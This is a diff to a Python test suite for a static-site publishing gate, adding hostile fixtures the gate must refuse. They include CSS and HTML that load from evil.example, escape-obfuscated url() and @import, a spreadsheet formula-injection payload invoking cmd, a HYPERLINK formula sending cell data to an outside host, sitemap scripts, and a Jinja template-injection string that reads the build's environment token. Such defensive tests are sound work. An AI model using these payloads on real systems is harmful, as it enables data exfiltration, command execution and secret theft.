@@ -103,6 +103,23 @@ HOSTILE_HTML = [
     ("style attribute", '<table><tr><td style="background:url(https://evil.example/)">x</td></tr></table>',
      "only a column's alignment"),
     ("srcdoc on unknown", '<div srcdoc="x" autofocus onfocus="alert(1)">x</div>', "onfocus=… on <div>"),
+    # loads from another host: the policy blocks them in browsers, the gate refuses them itself
+    ("tracking pixel", '<img src="https://tracker.example/p.gif" alt="">', "loaded from another host"),
+    ("tracking pixel in srcset", '<img src="x.png" alt="" srcset="x.png 1x, https://tracker.example/p.gif 2x">',
+     "loaded from another host"),
+    ("picture source of another host", '<picture><source srcset="https://tracker.example/p.gif"><img src="x.png" '
+     'alt=""></picture>', "loaded from another host"),
+    ("icon of another host", '<link rel="icon" href="https://tracker.example/f.ico">', "loaded from another host"),
+    # browsers read a backslash as a slash in an address: /\host is //host
+    ("image of another host by a backslash", '<img src="/\\tracker.example/p.gif" alt="">',
+     "leaves the site without saying how"),
+    ("stylesheet of another host by a backslash", '<link rel="stylesheet" href="/\\evil.example/x.css">',
+     "leaves the site without saying how"),
+    ("inline SVG painted from another file", '<svg><rect fill="url(https://evil.example/x.svg#p)" width="1" '
+     'height="1"/></svg>', "an SVG drawing may only refer to its own parts"),
+    # the theme reads its settings from the first #__config of the page: an earlier one would replace them
+    ("theme's configuration clobbered", '<p id="__config">{"base":"https://evil.example/","features":[]}</p>',
+     'the id "__config" is used twice'),
 ]
 
 
@@ -176,6 +193,38 @@ HOSTILE_FILES = [
      "@import is not allowed"),
     ("CSS loading from another host", "assets/stylesheets/x.css",
      b"body{background:url('https://evil.example/track.png')}", "loads from another site"),
+    ("CSS url() written with escapes", "assets/stylesheets/x.css",
+     b"body{background:\\75 rl(https://evil.example/track.png)}", "loads from another site"),
+    ("CSS url() with an escaped scheme", "assets/stylesheets/x.css",
+     b"body{background:url(\\68ttps://evil.example/track.png)}", "loads from another site"),
+    ("CSS @import written with escapes", "assets/stylesheets/x.css", b'@\\69mport "https://evil.example/x.css";',
+     "@import is not allowed"),
+    ("CSS image-set of another host", "assets/stylesheets/x.css",
+     b'body{background:image-set("https://evil.example/track.png" 1x)}', "loads from another site"),
+    ("SVG style with image-set", "assets/images/x.svg",
+     b'<svg xmlns="http://www.w3.org/2000/svg"><style>svg{background:-webkit-image-set("//evil.example/t.png" 1x)}'
+     b'</style><rect width="1" height="1"/></svg>', "loads from another site"),
+    ("SVG painted from another file", "assets/images/x.svg",
+     b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://evil.example/p.svg#p)" width="1" '
+     b'height="1"/></svg>', "an SVG drawing may only refer to its own parts"),
+    # the open data is opened in spreadsheets, which run a cell beginning with = + - @ as a formula
+    ("CSV formula", "assets/data/x.csv",
+     b'name,count\n"=HYPERLINK(""https://evil.example/?""&A3,""Source"")",-3\n', "a formula in the spreadsheets"),
+    ("CSV formula after a tab", "assets/data/x.csv", b'name\n"\t@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
+     "a formula in the spreadsheets"),
+    # the sitemap is XML with XHTML links in it: a browser opening it runs an XHTML script
+    ("sitemap with a script", "sitemap.xml",
+     b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+     b'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.example/</loc>'
+     b"<xhtml:script>alert(1)</xhtml:script></url></urlset>", "a <script> element is not allowed in the sitemap"),
+    ("sitemap link with a handler", "sitemap.xml",
+     b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+     b'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.example/</loc>'
+     b'<xhtml:link rel="alternate" hreflang="fr" href="javascript:alert(1)"/></url></urlset>', 'not "javascript:"'),
+    ("compressed sitemap that is not one", "sitemap.xml.gz", b"<script>alert(1)</script>",
+     "the compressed sitemap is not gzip"),
+    ("Pagefind's stylesheet loading from another host", "pagefind/pagefind-ui.css",
+     b"body{background:url(https://evil.example/t.png)}", "loads from another site"),
     ("source map of no theme file", "assets/javascripts/x.js.map", b"{}", "a source map is published only"),
     ("sitemap elsewhere", "en/x.xml", b"<x/>", "files of this type (.xml) are not published"),
     ("search words that are not gzip", "pagefind/kb-words.fr_0123456789.bin", b"<script>alert(1)</script>",
@@ -192,6 +241,15 @@ def test_hostile_files_are_refused(staged, rel, data, said):
     path.write_bytes(data)
     messages = _messages(gate.verify(staged))
     assert any(said in m and rel in m for m in messages), messages
+
+
+def test_a_published_name_with_a_new_line_or_a_quote_is_refused(staged):
+    for name in ("a\nb.png", 'a"b.png'):
+        (staged.folder / "assets" / "images" / name).write_bytes(b"\x89PNG\r\n\x1a\n")
+    messages = _messages(gate.verify(staged))
+    for shown in ("site/assets/images/a\\nb.png: a published name may hold only", "site/assets/images/a\"b.png: a "
+                  "published name may hold only"):  # fmt: skip
+        assert any(m.startswith(shown) for m in messages), messages
 
 
 def test_a_changed_theme_script_is_refused(staged):
@@ -271,13 +329,15 @@ def _hook_config(config, folder: Path):
 
 def test_the_preview_reports_what_the_gate_refuses_and_a_build_fails_leaving_nothing(staged, config, monkeypatch,
                                                                                      caplog):  # fmt: skip
-    """`make serve` lists the gate's problems as warnings and goes on showing the site; `mkdocs build`
-    fails with them and empties its folder (nothing of it may be published)."""
+    """`make serve` lists the gate's problems as warnings and goes on showing the site, the refused page
+    as the list of its problems; `mkdocs build` fails with them and empties its folder (nothing of it may
+    be published)."""
     import kb_mkdocs
     from mkdocs.exceptions import PluginError
 
     page = staged.folder / PAGE
-    page.write_text(page.read_text(encoding="utf-8").replace("<article", "<base href=//x><article", 1))
+    original = page.read_text(encoding="utf-8")
+    page.write_text(original.replace("<article", "<base href=//x><article", 1))
     hook_config = _hook_config(config, staged.folder)
     monkeypatch.delenv("KB_ONLY_LANG", raising=False)
     monkeypatch.setattr(kb_mkdocs, "COMMAND", "serve")
@@ -285,7 +345,9 @@ def test_the_preview_reports_what_the_gate_refuses_and_a_build_fails_leaving_not
         kb_mkdocs._gate(hook_config)
     said = "output gate: site/en/about/index.html: a <base> element is not allowed"
     assert any(said in r.getMessage() for r in caplog.records), caplog.text
-    assert page.is_file()
+    shown = page.read_text(encoding="utf-8")
+    assert "This page is not published" in shown and "<base" not in shown
+    page.write_text(original.replace("<article", "<base href=//x><article", 1))
     monkeypatch.setattr(kb_mkdocs, "COMMAND", "build")
     with pytest.raises(PluginError, match="a <base> element is not allowed"):
         kb_mkdocs._gate(hook_config)
@@ -340,3 +402,24 @@ def test_scripts_addressed_from_the_sites_path_are_the_sites_own(staged):
     page.write_text(text.replace("</article>", ours + other + "</article>", 1), encoding="utf-8")
     refused = [m for m in _messages(gate.verify(under)) if "is not a script of the theme" in m and PAGE in m]
     assert len(refused) == 1 and "/elsewhere/assets/javascripts/kb-reader.js" in refused[0], refused
+
+
+def test_a_theme_template_cannot_print_the_build_environment(tmp_path, monkeypatch):
+    """overrides/ is a folder of the repository: its templates are rendered in Jinja's sandbox, so one
+    that reaches for Python's insides (the build's environment: a token) fails the build, and no file of
+    the site holds the secret."""
+    from conftest import build, copy_project
+
+    monkeypatch.setenv("KB_TEST_SECRET", "ghp_notarealtokenbutsecret")
+    project = copy_project(tmp_path / "project")
+    main = project / "overrides" / "main.html"
+    text = main.read_text(encoding="utf-8")
+    assert "{% block styles %}" in text
+    leak = '{{ cycler.__init__.__globals__.os.environ.get("KB_TEST_SECRET") }}'
+    main.write_text(text.replace("{% block styles %}", "{% block styles %}" + leak, 1), encoding="utf-8")
+    result = build(project, tmp_path / "site")
+    assert result.returncode != 0
+    assert "is unsafe" in result.stdout + result.stderr
+    assert "ghp_" not in result.stdout + result.stderr
+    published = [p for p in (tmp_path / "site").rglob("*") if p.is_file() and b"ghp_" in p.read_bytes()]
+    assert published == []
